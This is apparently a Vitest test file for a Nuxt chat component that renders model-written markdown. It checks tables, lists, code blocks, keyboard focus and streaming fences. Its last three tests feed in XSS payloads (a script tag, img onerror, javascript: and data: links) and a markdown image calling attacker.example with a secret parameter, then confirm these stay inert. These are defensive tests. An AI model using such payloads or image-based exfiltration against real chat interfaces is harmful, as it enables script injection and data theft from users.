// @vitest-environment nuxt
import { describe, expect, it, vi } from 'vitest'
import { mountInApp } from './mount-in-app'
import ChatMarkdown from '~/components/chat/ChatMarkdown.vue'

async function render(text: string) {
  return mountInApp(ChatMarkdown, { text })
}

describe('ChatMarkdown', () => {
  it('renders a GFM table', async () => {
    const wrapper = await render('| Name | Size |\n| --- | --- |\n| a | 1 |\n| b | 2 |\n')
    expect(wrapper.find('table').exists()).toBe(true)
    expect(wrapper.findAll('tbody tr')).toHaveLength(2)
    expect(wrapper.find('th').text()).toBe('Name')
  })

  it('renders lists, emphasis and inline code', async () => {
    const wrapper = await render('- **one**\n- `two`\n\n1. first\n2. second\n')
    expect(wrapper.findAll('ul li')).toHaveLength(2)
    expect(wrapper.find('strong').text()).toBe('one')
    expect(wrapper.find('li code').text()).toBe('two')
    expect(wrapper.findAll('ol li')).toHaveLength(2)
  })

  it('gives a fenced code block its own component with a copy button', async () => {
    const wrapper = await render('Here:\n```ts\nconst answer = 42\n```\nDone.')
    const block = wrapper.find('[data-testid="code-block"]')
    expect(block.exists()).toBe(true)
    expect(block.text()).toContain('const answer = 42')
    expect(block.find('[data-testid="copy-code-button"]').exists()).toBe(true)
    expect(wrapper.text()).toContain('Done.')
  })

  it('keeps the focus of a keyboard user on a code block while its highlighting arrives', async () => {
    const wrapper = await mountInApp(ChatMarkdown, { text: 'Here:\n```ts\nconst answer = 42\n```\n' }, { attachTo: document.body })
    const body = wrapper.find<HTMLElement>('[data-testid="code-block"] [tabindex="0"]')
    expect(body.find('.shiki').exists()).toBe(false)
    body.element.focus()
    await vi.waitFor(() => expect(body.find('.shiki').exists()).toBe(true), { timeout: 10_000 })
    expect(document.activeElement).toBe(body.element)
    expect(wrapper.findAll('[data-testid="code-block"] [tabindex]')).toHaveLength(1)
  })

  it('shows an unclosed fence as code while it streams', async () => {
    const wrapper = await render('```python\nprint("hi")\n')
    expect(wrapper.find('[data-testid="code-block"]').text()).toContain('print("hi")')
  })

  it('keeps model-written HTML inert', async () => {
    const wrapper = await render('<script>window.pwned = 1</script>\n\n<img src=x onerror="window.pwned = 1">\n\n<a href="javascript:alert(1)">x</a>')
    const html = wrapper.html()
    expect(wrapper.find('script').exists()).toBe(false)
    expect(wrapper.find('img').exists()).toBe(false)
    expect(wrapper.find('[onerror]').exists()).toBe(false)
    expect(html).toContain('&lt;script&gt;')
    expect(wrapper.find('a[href^="javascript:"]').exists()).toBe(false)
  })

  it('does not turn javascript: markdown links into live links', async () => {
    const wrapper = await render('[click me](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=) and [ok](https://example.com)')
    const hrefs = wrapper.findAll('a').map(link => link.attributes('href'))
    expect(hrefs).toEqual(['https://example.com'])
    expect(wrapper.find('a').attributes('rel')).toContain('noopener')
  })

  it('does not load images from model output', async () => {
    const wrapper = await render('![tracker](https://attacker.example/p.png?secret=1)')
    expect(wrapper.find('img').exists()).toBe(false)
  })
})
